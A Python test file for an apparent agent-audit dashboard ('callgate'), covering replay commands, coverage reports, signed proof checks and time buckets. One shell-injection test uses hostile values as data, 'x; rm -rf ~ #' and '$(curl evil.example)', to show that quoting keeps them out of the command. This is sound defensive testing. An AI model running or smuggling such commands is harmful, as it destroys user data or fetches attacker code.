"""The pages' pure pieces: the replay command and the window as a duration (Policy impact), the
coverage report with or without the signed check (Coverage), and proofs checked step by step (Call
detail), the last two over real store files."""

from __future__ import annotations

import json
import shlex
import uuid
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from consumers.queries import QueryResult, UnknownQueryError
from consumers.reader import FileReader
from dashboard.data import (
    PROOF_STEPS,
    WINDOWS,
    Decider,
    Query,
    Window,
    bucket_width,
    bucketed,
    check_proof_steps,
    load_coverage,
    load_proof,
    load_run,
    replay_command,
)
from events.proofs import check_proof
from events.signing import SigningKey, load_trusted_keys


class TestWindowDuration:
    @pytest.mark.parametrize(
        ("label", "duration"),
        [
            ("Last 15 minutes", "15m"),
            ("Last hour", "1h"),
            ("Last 6 hours", "6h"),
            ("Last 24 hours", "24h"),
            ("Last 7 days", "7d"),
            ("Last 30 days", "30d"),
            ("All time", None),
        ],
    )
    def test_each_window_is_a_since_duration(self, label: str, duration: str | None) -> None:
        """Every window the sidebar offers has the `--since` duration of its length (none for all time)."""
        assert label in WINDOWS
        assert Window.named(label).duration() == duration


class TestReplayCommand:
    def test_a_policy_rule_replays_its_file_over_the_window_through_the_api(self) -> None:
        """A policy rule's command replays POLICY_FILE, reads the dashboard's API and covers the window."""
        rule = Decider("refunds", "stricter-refunds", calls=3, divergent=3)
        command = replay_command(rule, Window.named("Last 7 days"), api="http://127.0.0.1:8765")
        assert command == "callgate replay --policy POLICY_FILE --api http://127.0.0.1:8765 --since 7d"

    def test_an_interceptor_over_all_time_from_a_file(self) -> None:
        """An interceptor's command names MODULE:ATTR, the store file, and --since all for all time
        (a replay without --since takes the last 7 days)."""
        interceptor = Decider("frozen-tenants", None, calls=1, divergent=1)
        command = replay_command(interceptor, Window.named("All time"), db="/data/audit.duckdb")
        assert command == "callgate replay --interceptor MODULE:ATTR --db /data/audit.duckdb --since all"

    def test_nothing_from_an_event_reaches_the_shell(self) -> None:
        """A decider name written by an attacker is not in the command; a source with shell characters is quoted."""
        hostile = Decider("x; rm -rf ~ #", "$(curl evil.example)", calls=1, divergent=1)
        command = replay_command(hostile, Window.named("Last hour"), db="/tmp/my store; rm -rf ~.duckdb")
        assert "rm -rf ~ #" not in command
        assert "curl" not in command
        assert shlex.split(command) == [
            "callgate",
            "replay",
            "--policy",
            "POLICY_FILE",
            "--db",
            "/tmp/my store; rm -rf ~.duckdb",
            "--since",
            "1h",
        ]

    def test_a_decider_key_round_trips_any_name(self) -> None:
        """The widget key of a decider gives back its name and rule, whatever characters they hold."""
        decider = Decider('a / "b"', None, calls=0, divergent=0)
        assert Decider.parse_key(decider.key) == ('a / "b"', None)
        for bad in ("[1, 2]", "5", "not json"):
            with pytest.raises(ValueError, match="not a decider key"):
                Decider.parse_key(bad)


class _OlderReader:
    """A reader in front of a store older than signed checkpoints: it knows neither
    `producer_signatures` nor `inclusion_material`."""

    def __init__(self, inner: FileReader) -> None:
        self.inner = inner
        self.source = inner.source

    def query(self, name: str, params: Mapping[str, Any] | None = None) -> QueryResult:
        if name in ("producer_signatures", "inclusion_material"):
            raise UnknownQueryError(f"unknown query {name!r}", query=name)
        return self.inner.query(name, params)

    def close(self) -> None:
        self.inner.close()


@pytest.fixture
def signed_reader(signed_store: Any) -> Iterator[FileReader]:
    with FileReader(signed_store.path) as reader:
        yield reader


def _signed(report: dict[str, Any]) -> dict[str, Any]:
    return next(check for check in report["checks"] if check["name"] == "signed")


class TestLoadCoverage:
    def test_a_store_where_producers_sign_lists_the_unsigned_one(
        self, signed_store: Any, signed_reader: FileReader
    ) -> None:
        """The signing gate passes, so the signed check is listed, failing only for the unsigned gate,
        with its break kind and detail."""
        report = load_coverage(signed_reader, None)
        assert report["signatures"] == "shown"
        signed = _signed(report)
        assert (signed["status"], signed["total"]) == ("fail", 1)
        (row,) = signed["violations"]
        assert row["producer_id"] == signed_store.unsigned_producer
        assert row["reasons"] == "unsigned"
        assert row["detail"].startswith("unsigned: producer ")
        assert not report["ok"]

    def test_a_store_nobody_signs_leaves_the_check_out(self, seeded_store: Any) -> None:
        """Without any sign of signing the report is `callgate coverage`'s without --require-signed;
        with require_signed the check is listed and fails."""
        with FileReader(seeded_store.path) as reader:
            plain = load_coverage(reader, None)
            required = load_coverage(reader, None, require_signed=True)
        assert plain["signatures"] == "not_used"
        assert "signed" not in [check["name"] for check in plain["checks"]]
        assert required["signatures"] == "required"
        assert _signed(required)["status"] == "fail"

    def test_an_older_store_is_no_error(self, signed_reader: FileReader) -> None:
        """A reader without the signature query: the check is left out, or, when required, listed as
        unavailable and the report is not ok."""
        older = _OlderReader(signed_reader)
        plain = load_coverage(older, None)
        assert plain["signatures"] == "unavailable"
        assert [check["name"] for check in plain["checks"]] == ["unmediated", "chains", "tool_uses", "exercised"]
        required = load_coverage(older, None, require_signed=True)
        assert _signed(required)["status"] == "unavailable"
        assert "no signed checkpoint tables" in _signed(required)["summary"]
        assert (required["ok"], required["exit_code"]) == (False, 2)


def _query(reader: FileReader) -> Query:
    return lambda name, params: reader.query(name, params).rows


def _event_of(store: Any, call_id: str) -> str:
    return next(e.event_id for e in store.events if getattr(e, "call_id", None) == call_id and e.type == "ToolUse")


class TestLoadProof:
    def test_a_covered_event_has_a_proof_that_verifies_offline(
        self, signed_store: Any, signed_reader: FileReader
    ) -> None:
        """Without keys every step passes but the signature, not checked; the document verifies with
        the gate's key as `callgate verify --proof` would."""
        event_id = _event_of(signed_store, "s-3")
        view = load_proof(_query(signed_reader), event_id)
        assert view.proof is not None
        assert view.verdict.ok
        assert not view.signature_checked
        assert [s["step"] for s in view.steps] == [name for name, _ in PROOF_STEPS]
        assert [s["result"] for s in view.steps] == ["pass", "pass", "pass", "pass", "not checked"]
        assert view.file_name == f"proof-{event_id}.json"
        assert view.offline_command == f"callgate verify --proof proof-{event_id}.json --key <key.pub>"
        assert check_proof(json.loads(view.text), signed_store.key).ok

    def test_the_trusted_key_checks_the_signature_and_another_fails_it(
        self, signed_store: Any, signed_reader: FileReader
    ) -> None:
        """With the gate's key the signature step passes; with a key of the same name but not the
        gate's, it fails, and so does the verdict."""
        event_id = _event_of(signed_store, "s-3")
        query = _query(signed_reader)
        trusted = load_proof(query, event_id, load_trusted_keys(signed_store.keys))
        assert trusted.signature_checked
        assert trusted.verdict.ok
        assert trusted.steps[-1]["result"] == "pass"
        assert "signed by shop" in trusted.steps[-1]["detail"]
        wrong = load_proof(query, event_id, load_trusted_keys(signed_store.wrong_keys))
        assert not wrong.verdict.ok
        assert wrong.steps[-1]["result"] == "FAIL"
        assert "not among the dashboard's trusted keys" in wrong.steps[-1]["detail"]

    def test_an_uncovered_event_says_why(self, signed_store: Any, signed_reader: FileReader) -> None:
        """An event of the unsigned gate has no proof: the verdict says no checkpoint covers it."""
        view = load_proof(_query(signed_reader), _event_of(signed_store, "u-0"))
        assert view.proof is None
        assert (view.verdict.step, view.steps) == ("checkpoint", [])
        assert "is not covered by any stored checkpoint" in view.verdict.detail

    def test_a_tampered_proof_fails_at_its_step_and_stops_there(
        self, signed_store: Any, signed_reader: FileReader
    ) -> None:
        """A root changed in the document fails the inclusion step; the steps after it are not reached."""
        event_id = _event_of(signed_store, "s-3")
        view = load_proof(_query(signed_reader), event_id)
        assert view.proof is not None
        doc = {**view.proof, "root": ("0" if view.proof["root"][0] != "0" else "1") + view.proof["root"][1:]}
        key = SigningKey.generate("shop").public()
        tampered = check_proof_steps(event_id, doc, {key.key_id: key})
        assert [s["result"] for s in tampered.steps] == ["pass", "pass", "FAIL", "not reached", "not reached"]
        assert tampered.verdict.step == "inclusion"


def timed_store(path: Path, ages_s: list[float]) -> int:
    """A store of one ToolUse per age (seconds before now) from one producer; how many."""
    from datetime import UTC, datetime, timedelta

    from consumers.store import AuditStore, RawRecord
    from events import Producer, ToolUseEvent, encode_event

    now = datetime.now(UTC)
    producer = Producer()
    events = [
        producer.seal(
            ToolUseEvent,
            {
                "event_id": uuid.uuid4().hex,
                "time": now - timedelta(seconds=age),
                "gate": "shop",
                "agent": "desk",
                "tool": "quote",
                "call_id": f"c-{i}",
                "tenant": "acme",
                "outcome": "ok",
                "duration_ms": 1.0,
            },
        )
        for i, age in enumerate(sorted(ages_s, reverse=True))
    ]
    batch = [RawRecord("t", 0, i, e.producer_id.encode(), encode_event(e)) for i, e in enumerate(events)]
    with AuditStore(path) as store:
        store.ingest(batch, {("t", 0): len(batch)})
    return len(events)


class TestBuckets:
    @pytest.mark.parametrize(
        ("span_s", "width"),
        [(0.001, 1), (60, 2), (15 * 60, 30), (3600, 120), (86400, 1800), (7 * 86400, 21600), (30 * 86400, 86400)],
    )
    def test_width_cuts_the_span_into_about_48(self, span_s: float, width: int) -> None:
        """The round width that cuts a span into at most about 48 buckets: seconds to days."""
        assert bucket_width(span_s, 48) == width

    @pytest.mark.parametrize("label", ["Last 15 minutes", "Last 24 hours", "Last 30 days", "All time"])
    def test_a_minute_of_events_shows_in_seconds_in_any_window(self, tmp_path: Path, label: str) -> None:
        """A one-minute demo (an event every 5 s) is drawn in 2-second buckets whatever the window,
        every event counted once."""
        made = timed_store(tmp_path / "minute.duckdb", [float(s) for s in range(0, 60, 5)])
        with FileReader(tmp_path / "minute.duckdb") as reader:
            result = bucketed(_query(reader), "decision_trends", {}, Window.named(label), buckets=48)
        assert result.seconds == 2
        assert sum(int(r["events"]) for r in result.rows) == made
        assert len(result.rows) == made

    def test_thirty_days_show_days(self, tmp_path: Path) -> None:
        """Events spread over thirty days are drawn in one-day buckets."""
        day = 86400.0
        made = timed_store(tmp_path / "month.duckdb", [29 * day, 20 * day, 10 * day, 60.0])
        with FileReader(tmp_path / "month.duckdb") as reader:
            result = bucketed(_query(reader), "decision_trends", {}, Window.named("Last 30 days"), buckets=48)
        assert (result.seconds, result.label) == (86400, "1-day")
        assert sum(int(r["events"]) for r in result.rows) == made

    def test_no_events_no_rows(self, empty_store: Path) -> None:
        """An empty window gives no rows, in the window's own width."""
        with FileReader(empty_store) as reader:
            result = bucketed(_query(reader), "decision_trends", {}, Window.named("Last hour"), buckets=48)
        assert (result.rows, result.seconds) == ([], 120)


class TestRunStory:
    def test_calls_whose_parents_name_each_other_are_still_told(self, tmp_path: Path) -> None:
        """Forged events whose calls name each other as parent (a cycle) leave no call out of the story."""
        from datetime import UTC, datetime

        from consumers.store import AuditStore, RawRecord
        from events import Producer, ToolUseEvent, encode_event

        producer = Producer()
        events = [
            producer.seal(
                ToolUseEvent,
                {
                    "event_id": uuid.uuid4().hex,
                    "time": datetime.now(UTC),
                    "gate": "shop",
                    "agent": "desk",
                    "tool": tool_name,
                    "call_id": call_id,
                    "parent_call_id": parent,
                    "run_id": "run-forged",
                    "outcome": "ok",
                    "duration_ms": 1.0,
                },
            )
            for tool_name, call_id, parent in (("a", "c-a", "c-b"), ("b", "c-b", "c-a"), ("c", "c-c", None))
        ]
        path = tmp_path / "forged.duckdb"
        with AuditStore(path) as store:
            batch = [RawRecord("t", 0, i, e.producer_id.encode(), encode_event(e)) for i, e in enumerate(events)]
            store.ingest(batch, {("t", 0): len(batch)})
        with FileReader(path) as reader:
            story = load_run(_query(reader), "run-forged")
        assert sorted(step["call_id"] for step in story.steps) == ["c-a", "c-b", "c-c"]
        assert story.outcome == "clean"
